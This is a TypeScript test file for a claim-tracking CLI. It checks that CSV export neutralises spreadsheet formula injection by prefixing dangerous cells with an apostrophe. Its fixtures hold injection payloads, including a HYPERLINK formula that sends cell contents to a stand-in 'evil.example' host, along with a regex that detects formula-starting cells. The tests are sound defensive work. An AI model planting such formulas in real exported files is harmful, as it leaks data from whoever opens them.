import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/cli/commands/export-csv.js';
import { parseCsv } from '../../src/verify/loaders/csv.js';
import { cli } from '../support/cli.js';
import { tempDir } from '../support/databases.js';
import { PROJECT_ROOT } from '../support/shared.js';
import { count, recordFigure } from './figures.js';

const DANGEROUS = /^[=+\-@\t\r]/;

describe('csvCell', () => {
  it('any string comes back from a CSV parser unchanged or with one leading apostrophe, and never starts a formula', () => {
    let n = 0;
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x","y")', 'a,b', 'say "hi"', 'line\nbreak')), (s) => {
        n++;
        const rows = parseCsv(`${csvCell(s)},end\r\n`);
        const cell = rows[0]![0]!;
        expect(DANGEROUS.test(cell)).toBe(false);
        expect(cell === s || cell === `'${s}`).toBe(true);
        expect(rows[0]![1]).toBe('end');
      }),
      { numRuns: count(300, 5000) },
    );
    recordFigure('csv-cells', { cases: n, result: 'no cell starts a formula; every value round-trips' });
  });
});

describe('claims --csv and export csv (built CLI)', () => {
  const dir = tempDir('claimtrace-csv-');
  const home = join(dir, 'ws');
  const run = (...args: string[]) => cli(['--workspace', home, ...args]);

  beforeAll(() => {
    expect(run('init').code).toBe(0);
    expect(run('actor', 'import-registry', join(PROJECT_ROOT, 'examples', 'example-case', 'case.json')).code).toBe(0);
    const posts = [
      { id: '1', author: '@attacker', text: '=HYPERLINK("http://evil.example/?"&A1,"click") Norvane Wireless is on the Entity List.', created_at: '2024-03-04T10:00:00Z' },
      { id: '2', author: '+sum', text: '-2+3 Norvane is a Chinese military company.', created_at: '2024-03-05T10:00:00Z' },
      { id: '3', author: '=cmd', text: '@SUM(1) Norvane Wireless is not on the Entity List, "quoted", with, commas.', created_at: '2024-03-06T10:00:00Z' },
    ];
    writeFileSync(join(dir, 'posts.jsonl'), posts.map((p) => JSON.stringify(p)).join('\n') + '\n');
    const ing = run('ingest', join(dir, 'posts.jsonl'), '--json');
    expect(ing.code, ing.stderr).toBe(0);
  });

  it('writes every claim, and no cell a spreadsheet would run', () => {
    const json = run('claims', '--json').json<{ quote: string; actor: string }[]>();
    expect(json.length).toBeGreaterThan(0);
    const printed = run('claims', '--csv');
    expect(printed.code, printed.stderr).toBe(0);
    const out = join(dir, 'claims.csv');
    expect(run('export', 'csv', '--out', out).code).toBe(0);
    for (const text of [printed.stdout, readFileSync(out, 'utf8')]) {
      const rows = parseCsv(text);
      expect(rows[0]).toContain('quote');
      expect(rows.slice(1)).toHaveLength(json.length);
      for (const row of rows) for (const cell of row) expect(DANGEROUS.test(cell), cell).toBe(false);
      // The dangerous values are there, neutralised, not dropped.
      expect(rows.some((r) => r.includes("'@attacker"))).toBe(true);
    }
    // Without --csv, claims still prints its table.
    expect(run('claims').stdout).toMatch(/subject/);
  });
});
